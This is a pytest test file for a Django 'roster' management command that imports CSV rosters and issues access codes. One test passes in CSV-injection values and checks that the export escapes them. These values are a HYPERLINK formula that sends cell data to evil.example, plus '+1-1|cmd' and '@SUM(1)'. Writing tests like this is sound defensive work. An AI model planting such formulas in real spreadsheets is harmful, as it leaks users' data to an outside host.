"""`manage.py roster`, as an operator uses it."""

import csv
import io
import stat
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from contracts.directory.selectors import find_matches
from contracts.roster.models import IssuedCode
from contracts.roster.selectors import list_entries, list_entries_without_code
from core.common.clock import now
from core.groups.services.providers import ProviderFacts, register_provider
from tenants.context import ActiveContract, contract_context
from tests.integration.roster.conftest import (
    CLINIC,
    LOCATION,
    NAMELESS_LOCATION,
    NO_CODE,
    SECOND_LOCATION,
    WriteRoster,
)
from tests.support.people import make_person


def roster(*words: Any) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("roster", *map(str, words), stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def codes_in(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_import(contract_a: ActiveContract, write_roster: WriteRoster) -> None:
    path = write_roster([CLINIC, NO_CODE])
    out, _ = roster("import", contract_a.slug, path)
    assert "2 rows imported" in out
    with contract_context(contract_a):
        assert list_entries().count() == 2
    assert "0 added, 0 changed, 0 removed" in roster("import", contract_a.slug, path)[0]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_terminal_sees_a_progress_bar(
    contract_a: ActiveContract, write_roster: WriteRoster, monkeypatch: pytest.MonkeyPatch
) -> None:
    terminal = Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    roster("import", contract_a.slug, write_roster([CLINIC, NO_CODE]), "--dry-run")
    assert "Checking rows" in terminal.getvalue()
    assert "2/2" in terminal.getvalue()


def test_dry_run(contract_a: ActiveContract, write_roster: WriteRoster) -> None:
    with contract_context(contract_a):
        before = list_entries().count()
    out, _ = roster("import", contract_a.slug, write_roster([CLINIC]), "--dry-run")
    assert "1 row checked, no faults" in out
    with contract_context(contract_a):
        assert list_entries().count() == before


def test_rejected_rows_go_to_a_report(
    contract_a: ActiveContract, write_roster: WriteRoster, tmp_path: Path
) -> None:
    path = write_roster([CLINIC, CLINIC | {"identifier": "1234567890"}])
    with pytest.raises(CommandError, match="rejected were 1 of 2 rows"):
        roster("import", contract_a.slug, path)
    (row,) = codes_in((tmp_path / "roster.rejected.csv").read_text())
    assert (row["row"], row["column"]) == ("3", "identifier")
    report = tmp_path / "elsewhere.csv"
    with pytest.raises(CommandError):
        roster("import", contract_a.slug, path, "--rejects", report)
    assert report.exists()


@pytest.mark.parametrize(
    ("words", "sentence"),
    [
        (["import", "nowhere", "x.csv"], "no ready contract"),
        (["import", "wv-bh", "none.csv"], "no file"),
        (["issue-codes", "acentra-sample"], "--missing"),
        (["issue-codes", "acentra-sample", "1234567893", "--missing"], "--missing"),
        (["issue-codes", "acentra-sample", "1999999999"], "no entry"),
        (["issue-codes", "wv-bh", "1234567893"], "issued codes"),
    ],
)
def test_refusals(db: None, words: list[str], sentence: str) -> None:
    with pytest.raises(CommandError, match=sentence):
        roster(*words)


def test_template(contract_b: ActiveContract, tmp_path: Path) -> None:
    out, _ = roster("template", contract_b.slug)
    path = tmp_path / "template.csv"
    path.write_text(out)
    assert "3 rows checked" in roster("import", contract_b.slug, path, "--dry-run")[0]


def test_codes_for_named_identifiers(contract_b: ActiveContract, write_roster: WriteRoster) -> None:
    roster("import", contract_b.slug, write_roster([LOCATION, SECOND_LOCATION, NAMELESS_LOCATION]))
    out, err = roster("issue-codes", contract_b.slug, "1234567893")
    codes = codes_in(out)
    assert {row["address_1"] for row in codes} == {"1 Main Street", "400 Station Avenue"}
    assert "2 codes issued" in err
    for row in codes:
        assert len(find_matches(row["identifier"], row["code"])) == 1


def test_codes_for_an_entry_without_identifier(
    contract_b: ActiveContract, write_roster: WriteRoster
) -> None:
    roster("import", contract_b.slug, write_roster([NAMELESS_LOCATION]))
    with contract_context(contract_b):
        entry = list_entries().get()
    (row,) = codes_in(roster("issue-codes", contract_b.slug, entry.id)[0])
    assert [match.entry_id for match in find_matches(row["code"], row["code"])] == [entry.id]


def test_a_formula_from_a_roster_is_taken_and_written_as_text(
    contract_b: ActiveContract, write_roster: WriteRoster
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Elm")'
    row = LOCATION | {"name": formula, "address_1": "+1-1|cmd", "city": "@SUM(1)"}
    roster("import", contract_b.slug, write_roster([row]))
    with contract_context(contract_b):
        assert list_entries().get().name == formula
    (written,) = codes_in(roster("issue-codes", contract_b.slug, "1234567893")[0])
    assert written["name"] == f"'{formula}"
    assert (written["address_1"], written["city"]) == ("'+1-1|cmd", "'@SUM(1)")


def test_missing_codes_go_to_a_new_file_that_only_its_owner_reads(
    contract_b: ActiveContract, write_roster: WriteRoster, tmp_path: Path
) -> None:
    roster("import", contract_b.slug, write_roster([LOCATION, SECOND_LOCATION | {"code": ""}]))
    sheet = tmp_path / "codes.csv"
    out, _ = roster("issue-codes", contract_b.slug, "--missing", "--out", sheet)
    assert out == ""
    assert stat.S_IMODE(sheet.stat().st_mode) == 0o600
    (row,) = codes_in(sheet.read_text())
    assert row["address_1"] == "400 Station Avenue"
    with contract_context(contract_b):
        assert not list_entries_without_code(now()).exists()
        count = IssuedCode.objects.count()
    with pytest.raises(CommandError, match="cannot be made"):
        roster("issue-codes", contract_b.slug, "1234567893", "--out", sheet)
    with contract_context(contract_b):
        assert IssuedCode.objects.count() == count


def register_second_location(contract: ActiveContract) -> None:
    with contract_context(contract):
        entry = list_entries().get(address_1="400 Station Avenue")
    register_provider(
        user=make_person(),
        group=None,
        contract=contract,
        facts=ProviderFacts(
            identifier=entry.identifier,
            identifier_type=entry.identifier_type,
            unit_key=str(entry.id),
            roster_entry_id=entry.id,
            name=entry.name,
        ),
        by=None,
        at=now(),
    )


def test_locations_that_are_registered_get_no_code_unasked(
    contract_b: ActiveContract, write_roster: WriteRoster
) -> None:
    rows = [LOCATION | {"code": ""}, SECOND_LOCATION | {"code": ""}]
    roster("import", contract_b.slug, write_roster(rows))
    register_second_location(contract_b)
    with contract_context(contract_b):
        before = IssuedCode.objects.count()
    with pytest.raises(CommandError, match="Registered already: 1234567893"):
        roster("issue-codes", contract_b.slug, "1234567893")
    with contract_context(contract_b):
        assert IssuedCode.objects.count() == before
    (missing,) = codes_in(roster("issue-codes", contract_b.slug, "--missing")[0])
    assert missing["address_1"] == "1 Main Street"
    named = roster("issue-codes", contract_b.slug, "1234567893", "--registered")[0]
    assert len(codes_in(named)) == 2


def test_reindex(contract_a: ActiveContract, write_roster: WriteRoster) -> None:
    roster("import", contract_a.slug, write_roster([CLINIC]))
    assert "1 fingerprints" in roster("reindex", contract_a.slug)[0]
